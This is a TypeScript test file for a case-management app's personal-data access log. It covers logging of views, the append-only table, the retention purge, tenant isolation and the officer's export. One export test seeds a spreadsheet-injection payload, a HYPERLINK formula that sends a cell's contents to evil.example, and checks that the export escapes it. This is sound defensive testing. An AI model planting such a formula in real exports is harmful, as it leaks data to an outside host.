import { randomUUID } from "node:crypto";
import ExcelJS from "exceljs";
import pg from "pg";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { TContext } from "@/lib/auth/context";
import { ROLES } from "@/lib/auth/permissions";
import { getClientForEdit, getClientHistory, getClientPage } from "@/lib/domain/clients/service";
import { getEventExportData } from "@/lib/domain/events/documents";
import { runNightlyChecks } from "@/lib/domain/notifications/checks";
import { exportParticipantRegister } from "@/lib/domain/participants/register-export";
import { getParticipantPage } from "@/lib/domain/participants/service";
import { getPathCard, getPathPage } from "@/lib/domain/paths/service";
import { purgeExpiredAccessLog, recordAccess } from "@/lib/domain/privacy/access-log";
import { exportAccessLog, type TAccessLogExportLabels } from "@/lib/domain/privacy/access-log-export";
import { getAccessLogPage } from "@/lib/domain/privacy/access-log-page";
import { listClientServices } from "@/lib/domain/services/service";
import { tenantTransaction } from "@/lib/db/transaction";
import { auditRows, contextFor, createClient, createTenant, createUser, ownerQuery, type TTenantRow, type TUserRow } from "@/tests/factories";
import { appErrorOf } from "@/tests/factories/assertions";
import { createEventTargets } from "@/tests/factories/events";
import { createPathTargets, type TPathTargets } from "@/tests/factories/paths";
import { pageStatements } from "@/tests/support/statement-counter";

/**
 * The access log (issue 17 §1): a view of a person is appended — who, when, which person, what
 * view, from which IP — by the read services inside their own transaction, the special-category
 * fields apart; a refused view leaves nothing; the table refuses changes to everyone; the nightly
 * purge keeps each tenant's months; and the IOD's screen and export find the right rows of their
 * own tenant only.
 */

const IP = "203.0.113.7";
/** A valid PESEL (a woman born 1985-03-14). */
const PESEL = "85031400427";

type TLogRow = { user_id: string; client_id: string; view: string; detail: string | null; ip: string | null; request_id: string | null };

function logRows(tenantId: string): Promise<TLogRow[]> {
  return ownerQuery<TLogRow>(
    `SELECT user_id, client_id, view::text AS view, detail, ip, request_id FROM access_log WHERE tenant_id = $1 ORDER BY at, view, client_id`,
    [tenantId],
  );
}

/** A user's context as the session builds it: with the client's IP. */
const withIp = (user: TUserRow): TContext => ({ ...contextFor(user), ip: IP });

/** An entry written as the owner, at a chosen moment (for filters by day and the purge). */
async function insertEntry(tenantId: string, row: { userId: string; clientId: string; view?: string; at: string; detail?: string }) {
  await ownerQuery(
    `INSERT INTO access_log (id, tenant_id, user_id, client_id, view, detail, ip, at) VALUES ($1, $2, $3, $4, $5::"AccessView", $6, $7, $8::timestamptz)`,
    [randomUUID(), tenantId, row.userId, row.clientId, row.view ?? "CLIENT_RECORD", row.detail ?? null, IP, row.at],
  );
}

let tenant: TTenantRow;
let other: TTenantRow;
let manager: TUserRow;
let advisor: TUserRow;
let auditor: TUserRow;
let iod: TUserRow;
let targets: TPathTargets;
/** The advisor's client with a disability recorded (on the client and in the EFS+ data). */
let person: { id: string; name: string };

beforeEach(async () => {
  tenant = await createTenant();
  other = await createTenant();
  manager = await createUser(tenant, { role: "MANAGER" });
  advisor = await createUser(tenant, { role: "KEY_ADVISOR" });
  auditor = await createUser(tenant, { role: "AUDITOR" });
  iod = await createUser(tenant, { role: "IOD" });
  targets = await createPathTargets(tenant, advisor.id);
  person = await createClient(tenant, { name: "Zofia Przykładowa", pesel: PESEL, keyAdvisorId: advisor.id, hasDisability: true });
  await ownerQuery(
    `INSERT INTO participant_data (tenant_id, client_id, sex, disability, participation_start, updated_by_id, updated_at) VALUES ($1, $2, 'FEMALE', 'YES', '2026-02-01', $3, now())`,
    [tenant.id, person.id, advisor.id],
  );
});

describe("a view of a person", () => {
  it("the client page writes one CLIENT_RECORD row (user, client, IP, request) and nothing more on the overview", async () => {
    const ctx = withIp(manager);
    await getClientPage(ctx, person.id, { recentServices: 5 });
    expect(await logRows(tenant.id)).toEqual([
      { user_id: manager.id, client_id: person.id, view: "CLIENT_RECORD", detail: "overview", ip: IP, request_id: ctx.requestId },
    ]);
  });

  it("the sensitive fields shown add one CLIENT_SENSITIVE row; a viewer without clients.read_sensitive adds none", async () => {
    await getClientPage(withIp(manager), person.id, { tab: "details", recentServices: 5 });
    expect((await logRows(tenant.id)).map((r) => [r.user_id, r.view])).toEqual([
      [manager.id, "CLIENT_RECORD"],
      [manager.id, "CLIENT_SENSITIVE"],
    ]);
    await ownerQuery(`TRUNCATE access_log`);

    const page = await getClientPage(withIp(auditor), person.id, { tab: "details", recentServices: 5 });
    expect(page.client.sensitiveHidden).toBe(true);
    expect((await logRows(tenant.id)).map((r) => [r.user_id, r.view])).toEqual([[auditor.id, "CLIENT_RECORD"]]);
  });

  it("a refused view writes nothing: out of the caller's scope, another tenant's, missing", async () => {
    const stranger = await createUser(tenant, { role: "KEY_ADVISOR" });
    expect((await appErrorOf(getClientPage(withIp(stranger), person.id, { recentServices: 5 }))).code).toBe("NOT_FOUND");
    const foreignManager = await createUser(other, { role: "MANAGER" });
    expect((await appErrorOf(getClientPage(withIp(foreignManager), person.id, { recentServices: 5 }))).code).toBe("NOT_FOUND");
    expect((await appErrorOf(getPathPage(withIp(foreignManager), targets.path.id, { tab: "overview" }))).code).toBe("NOT_FOUND");
    expect((await appErrorOf(getPathCard(withIp(stranger), targets.path.id))).code).toBe("NOT_FOUND");
    expect((await appErrorOf(getClientPage(withIp(manager), randomUUID(), { recentServices: 5 }))).code).toBe("NOT_FOUND");
    expect(await logRows(tenant.id)).toEqual([]);
    expect(await logRows(other.id)).toEqual([]);
  });

  it("the path page writes PATH and the path card PATH_CARD, each naming the path", async () => {
    await getPathPage(withIp(advisor), targets.path.id, { tab: "plan" });
    await getPathCard(withIp(advisor), targets.path.id);
    expect((await logRows(tenant.id)).map((r) => ({ view: r.view, client: r.client_id, detail: r.detail, user: r.user_id }))).toEqual([
      { view: "PATH", client: targets.pathClient.id, detail: targets.path.id, user: advisor.id },
      { view: "PATH_CARD", client: targets.pathClient.id, detail: targets.path.id, user: advisor.id },
    ]);
  });

  it("history, services, the EFS+ page and the edit form log their own views, the sensitive fields apart where shown", async () => {
    const views = async (work: () => Promise<unknown>) => {
      await ownerQuery(`TRUNCATE access_log`);
      await work();
      return (await logRows(tenant.id)).map((r) => r.view).sort();
    };
    expect(await views(() => getClientHistory(withIp(advisor), person.id))).toEqual(["CLIENT_HISTORY"]);
    expect(await views(() => listClientServices(withIp(advisor), person.id, {}))).toEqual(["CLIENT_SERVICES"]);
    expect(await views(() => getParticipantPage(withIp(advisor), person.id))).toEqual(["CLIENT_PARTICIPANT", "CLIENT_SENSITIVE"]);
    expect(await views(() => getParticipantPage(withIp(auditor), person.id))).toEqual(["CLIENT_PARTICIPANT"]);
    expect(await views(() => getClientForEdit(withIp(advisor), person.id))).toEqual(["CLIENT_EDIT", "CLIENT_SENSITIVE"]);
  });

  it("the participant register writes one EXPORT row per person in it, and CLIENT_SENSITIVE for those with special-category answers", async () => {
    const register = await exportParticipantRegister(withIp(manager), {});
    const persons = await ownerQuery<{ id: string }>(`SELECT id FROM client WHERE tenant_id = $1 AND kind = 'PERSON' ORDER BY id`, [tenant.id]);
    expect(register.count).toBe(persons.length);
    expect(register.count).toBeGreaterThan(1);
    const rows = await logRows(tenant.id);
    const exported = rows.filter((r) => r.view === "EXPORT");
    expect(exported.map((r) => r.client_id).sort()).toEqual(persons.map((p) => p.id));
    expect(exported.every((r) => r.detail === "participants.register" && r.user_id === manager.id && r.ip === IP)).toBe(true);
    expect(rows.filter((r) => r.view === "CLIENT_SENSITIVE").map((r) => r.client_id)).toEqual([person.id]);
    expect(rows).toHaveLength(persons.length + 1);
  });

  it("an event's workbook logs the clients it lists", async () => {
    const { event, registration } = await createEventTargets(tenant, manager.id);
    const [registered] = await ownerQuery<{ client_id: string }>(`SELECT client_id FROM event_registration WHERE id = $1`, [registration.id]);
    await getEventExportData(withIp(manager), event.id);
    expect((await logRows(tenant.id)).map((r) => [r.view, r.client_id, r.detail])).toEqual([["EXPORT", registered?.client_id, `events.export:${event.id}`]]);
  });

  it("recordAccess writes nothing for an empty list", async () => {
    await tenantTransaction(tenant.id, (tx) => recordAccess(tx, withIp(manager), []));
    expect(await logRows(tenant.id)).toEqual([]);
  });
});

describe("the table is append-only", () => {
  let app: pg.Client;

  beforeAll(async () => {
    app = new pg.Client({ connectionString: process.env.APP_DATABASE_URL ?? "" });
    await app.connect();
    const [me] = (await app.query<{ user: string }>("SELECT current_user AS user")).rows;
    expect(me?.user).toBe("owes_app");
  });

  afterAll(async () => {
    await app.end();
  });

  /** The error the app role gets for `sql` in a transaction of `tenantId` (rolled back either way). */
  async function appRefusal(tenantId: string, sql: string): Promise<{ code?: string } | null> {
    await app.query("BEGIN");
    try {
      await app.query("SELECT set_config('app.tenant_id', $1, true)", [tenantId]);
      await app.query(sql);
      return null;
    } catch (error) {
      return error as { code?: string };
    } finally {
      await app.query("ROLLBACK");
    }
  }

  it("refuses UPDATE and DELETE to the app role and to the owner; both may read, the app may insert", async () => {
    await getClientPage(withIp(manager), person.id, { recentServices: 5 });
    for (const sql of [`UPDATE access_log SET ip = '198.51.100.1'`, `DELETE FROM access_log`, `UPDATE access_log SET view = 'PATH'`]) {
      expect((await appRefusal(tenant.id, sql))?.code, sql).toBe("42501");
    }
    // Even with the purge's flag set by hand: the app role has no DELETE at all.
    expect((await appRefusal(tenant.id, `SELECT set_config('owes.access_log_purge', 'on', true); DELETE FROM access_log`))?.code).toBe("42501");
    expect(await appRefusal(tenant.id, `SELECT count(*) FROM access_log`)).toBeNull();

    await expect(ownerQuery(`UPDATE access_log SET ip = '198.51.100.1'`)).rejects.toMatchObject({
      code: "42501",
      message: expect.stringContaining("append-only"),
    });
    await expect(ownerQuery(`DELETE FROM access_log`)).rejects.toMatchObject({ code: "42501", message: expect.stringContaining("append-only") });
    expect(await logRows(tenant.id)).toEqual([expect.objectContaining({ view: "CLIENT_RECORD", ip: IP })]);
  });
});

describe("the retention purge", () => {
  it("removes only entries older than the tenant's months, and only the tenant's; audits the count", async () => {
    const now = new Date();
    const otherUser = await createUser(other, { role: "MANAGER" });
    const otherClient = await createClient(other);
    await ownerQuery(`UPDATE tenant SET access_log_retention_months = 6 WHERE id = $1`, [other.id]);
    // The tenant keeps 24 months (the default): a day either side of the limit.
    await insertEntry(tenant.id, { userId: manager.id, clientId: person.id, at: now.toISOString(), detail: "now" });
    await ownerQuery(
      `INSERT INTO access_log (id, tenant_id, user_id, client_id, view, detail, at)
       VALUES (gen_random_uuid(), $1, $2, $3, 'CLIENT_RECORD', 'within', $5::timestamptz - interval '24 months' + interval '1 day'),
              (gen_random_uuid(), $1, $2, $3, 'CLIENT_RECORD', 'expired', $5::timestamptz - interval '24 months' - interval '1 day'),
              (gen_random_uuid(), $4, $6, $7, 'CLIENT_RECORD', 'other-old', $5::timestamptz - interval '30 months'),
              (gen_random_uuid(), $4, $6, $7, 'CLIENT_RECORD', 'other-8m', $5::timestamptz - interval '8 months'),
              (gen_random_uuid(), $4, $6, $7, 'CLIENT_RECORD', 'other-3m', $5::timestamptz - interval '3 months')`,
      [tenant.id, manager.id, person.id, other.id, now.toISOString(), otherUser.id, otherClient.id],
    );
    const details = async (tenantId: string) => (await logRows(tenantId)).map((r) => r.detail).sort();

    // The nightly job runs it for the tenant.
    const result = await runNightlyChecks(tenant.id, now);
    expect(result.purgedAccessLog).toBe(1);
    expect(await details(tenant.id)).toEqual(["now", "within"]);
    expect(await details(other.id)).toEqual(["other-3m", "other-8m", "other-old"]);
    expect((await auditRows(tenant.id)).filter((r) => r.action === "tenant.access_log_purged")).toEqual([
      expect.objectContaining({ actor_id: null, entity_type: "Tenant", entity_id: tenant.id, after: expect.objectContaining({ removed: 1 }) }),
    ]);

    expect(await purgeExpiredAccessLog(other.id, now)).toBe(2);
    expect(await details(other.id)).toEqual(["other-3m"]);
    expect(await details(tenant.id)).toEqual(["now", "within"]);
    // Nothing left to purge: nothing audited.
    expect(await purgeExpiredAccessLog(tenant.id, now)).toBe(0);
    expect((await auditRows(tenant.id)).filter((r) => r.action === "tenant.access_log_purged")).toHaveLength(1);
  });
});

describe("the IOD's screen", () => {
  let namesake: { id: string };
  let anonymised: { id: string };

  beforeEach(async () => {
    const foreignUser = await createUser(other, { role: "MANAGER" });
    // Another tenant's person of the same name and PESEL, viewed too: never on this tenant's screen.
    namesake = await createClient(other, { name: "Zofia Przykładowa", pesel: PESEL });
    anonymised = await createClient(tenant, { name: "Osoba zanonimizowana 7F3A" });
    await insertEntry(tenant.id, { userId: advisor.id, clientId: person.id, at: "2026-03-01T09:00:00Z", detail: "a1" });
    await insertEntry(tenant.id, { userId: manager.id, clientId: person.id, at: "2026-03-02T22:30:00Z", view: "CLIENT_SENSITIVE", detail: "m1" });
    await insertEntry(tenant.id, { userId: manager.id, clientId: targets.pathClient.id, at: "2026-03-03T10:00:00Z", view: "PATH", detail: "m2" });
    await insertEntry(tenant.id, { userId: auditor.id, clientId: anonymised.id, at: "2026-03-04T10:00:00Z", detail: "u1" });
    await insertEntry(other.id, { userId: foreignUser.id, clientId: namesake.id, at: "2026-03-02T10:00:00Z", detail: "foreign" });
  });

  const details = (page: { items: { detail: string | null }[] }) => page.items.map((i) => i.detail);

  it("lists the tenant's entries newest first, with who (name, role), whom, what and from where", async () => {
    const page = await getAccessLogPage(contextFor(iod), {});
    expect(details(page)).toEqual(["u1", "m2", "m1", "a1"]);
    expect(page.total).toBe(4);
    expect(page.items[1]).toMatchObject({
      user: { id: manager.id, name: manager.name, role: "MANAGER" },
      client: { id: targets.pathClient.id },
      view: "PATH",
      ip: IP,
    });
    expect(page.users.map((u) => u.id).sort()).toEqual([manager.id, advisor.id, auditor.id, iod.id].sort());
  });

  it("filters by person (name fragment without diacritics, whole PESEL, an anonymised placeholder), by user, by view and by Polish days", async () => {
    const ctx = contextFor(iod);
    expect(details(await getAccessLogPage(ctx, { person: "przykladowa" }))).toEqual(["m1", "a1"]);
    expect(details(await getAccessLogPage(ctx, { person: PESEL }))).toEqual(["m1", "a1"]);
    expect(details(await getAccessLogPage(ctx, { person: "zanonimizowana" }))).toEqual(["u1"]);
    expect(details(await getAccessLogPage(ctx, { person: "nikt taki" }))).toEqual([]);
    expect(details(await getAccessLogPage(ctx, { userId: manager.id }))).toEqual(["m2", "m1"]);
    expect(details(await getAccessLogPage(ctx, { view: "CLIENT_SENSITIVE" }))).toEqual(["m1"]);
    // 22:30 UTC on 2 March is 23:30 in Warsaw: still 2 March.
    expect(details(await getAccessLogPage(ctx, { from: "2026-03-02", to: "2026-03-02" }))).toEqual(["m1"]);
    expect(details(await getAccessLogPage(ctx, { from: "2026-03-03" }))).toEqual(["u1", "m2"]);
    expect(details(await getAccessLogPage(ctx, { to: "2026-03-01" }))).toEqual(["a1"]);
  });

  it("'who viewed this person' names them; 'what did this user view' names the user; pages through the rest", async () => {
    const ctx = contextFor(iod);
    const forPerson = await getAccessLogPage(ctx, { clientId: person.id });
    expect(forPerson.client).toEqual({ id: person.id, name: "Zofia Przykładowa" });
    expect(details(forPerson)).toEqual(["m1", "a1"]);
    const forUser = await getAccessLogPage(ctx, { userId: advisor.id });
    expect(forUser.user).toMatchObject({ id: advisor.id, role: "KEY_ADVISOR" });
    expect(details(forUser)).toEqual(["a1"]);
    const second = await getAccessLogPage(ctx, { pageSize: 3, page: 2 });
    expect({ items: details(second), total: second.total, pageCount: second.pageCount }).toEqual({ items: ["a1"], total: 4, pageCount: 2 });
  });

  it("another tenant's client or user answers like a missing one, and their rows never show", async () => {
    const ctx = contextFor(iod);
    for (const field of ["clientId", "userId"] as const) {
      const foreignId =
        field === "clientId" ? namesake.id : (await ownerQuery<{ id: string }>(`SELECT id FROM "user" WHERE tenant_id = $1 LIMIT 1`, [other.id]))[0]?.id;
      const foreign = await appErrorOf(getAccessLogPage(ctx, { [field]: foreignId }));
      const missing = await appErrorOf(getAccessLogPage(ctx, { [field]: randomUUID() }));
      expect(foreign.code).toBe("NOT_FOUND");
      expect({ code: foreign.code, message: foreign.message }).toEqual({ code: missing.code, message: missing.message });
      expect((await appErrorOf(getAccessLogPage(ctx, { [field]: "not-an-id" }))).code).toBe("NOT_FOUND");
    }
    const all = await getAccessLogPage(ctx, { person: "Zofia" });
    expect(all.items.map((i) => i.client.id)).not.toContain(namesake.id);
  });

  it("costs at most 10 statements with every filter, in one transaction, the session check included", async () => {
    const statements = await pageStatements(iod, (ctx) =>
      getAccessLogPage(ctx, { clientId: person.id, userId: manager.id, person: "zofia", view: "CLIENT_SENSITIVE", from: "2026-03-01", to: "2026-03-31" }),
    );
    expect(statements.length, statements.join("\n")).toBeLessThanOrEqual(10);
    expect(statements.filter((s) => /^\s*BEGIN/i.test(s))).toHaveLength(1);
  });

  it("every role but the IOD is refused before any lookup, the refusal alone audited", async () => {
    for (const role of ROLES.filter((r) => r !== "IOD")) {
      const user = await createUser(tenant, { role });
      const before = (await auditRows(tenant.id)).length;
      for (const call of [
        () => getAccessLogPage(contextFor(user), { clientId: person.id }),
        () => getAccessLogPage(contextFor(user), { clientId: randomUUID() }),
        () => exportAccessLog(contextFor(user), { userId: "not-an-id" }, { format: "csv", labels: LABELS }),
      ]) {
        expect((await appErrorOf(call())).code, role).toBe("FORBIDDEN");
      }
      const after = await auditRows(tenant.id);
      expect(after.slice(before).map((r) => [r.action, r.entity_id])).toEqual(Array.from({ length: 3 }, () => ["auth.forbidden", "privacy.access_log"]));
    }
  });
});

const LABELS: TAccessLogExportLabels = {
  sheet: "Rejestr dostępu",
  columns: { at: "Kiedy", user: "Kto", role: "Rola", person: "Czyje dane", view: "Widok", detail: "Szczegóły", ip: "Adres IP" },
  view: (view) => `view:${view}`,
  role: (role) => `role:${role}`,
  unknownUser: "?",
};

describe("the export", () => {
  it("writes the filtered rows as CSV and XLSX, cells as data, and audits the filter", async () => {
    const formula = await createClient(tenant, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")' });
    await insertEntry(tenant.id, { userId: manager.id, clientId: formula.id, at: "2026-03-05T08:00:00Z", detail: "+cmd" });
    await insertEntry(tenant.id, { userId: advisor.id, clientId: person.id, at: "2026-03-06T08:00:00Z" });
    const ctx = withIp(iod);

    const csv = await exportAccessLog(ctx, { userId: manager.id }, { format: "csv", labels: LABELS });
    expect(csv.count).toBe(1);
    const lines = csv.body
      .toString("utf8")
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n");
    expect(lines).toEqual([
      "Kiedy;Kto;Rola;Czyje dane;Widok;Szczegóły;Adres IP",
      `2026-03-05 09:00:00;${manager.name};role:MANAGER;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Kliknij"")";view:CLIENT_RECORD;'+cmd;${IP}`,
    ]);

    const xlsx = await exportAccessLog(ctx, { person: PESEL }, { format: "xlsx", labels: LABELS });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("Rejestr dostępu");
    expect(sheet?.rowCount).toBe(2);
    expect(sheet?.getRow(2).getCell(4).value).toBe("Zofia Przykładowa");
    expect(sheet?.getRow(2).getCell(1).value).toBe("2026-03-06 09:00:00");

    expect((await auditRows(tenant.id)).map((r) => [r.action, r.actor_id, r.after])).toEqual([
      ["access_log.export", iod.id, { userId: manager.id, format: "csv", rows: 1 }],
      // A PESEL typed as the filter is masked like every audited PESEL.
      ["access_log.export", iod.id, { person: "*******0427", format: "xlsx", rows: 1 }],
    ]);
  });
});
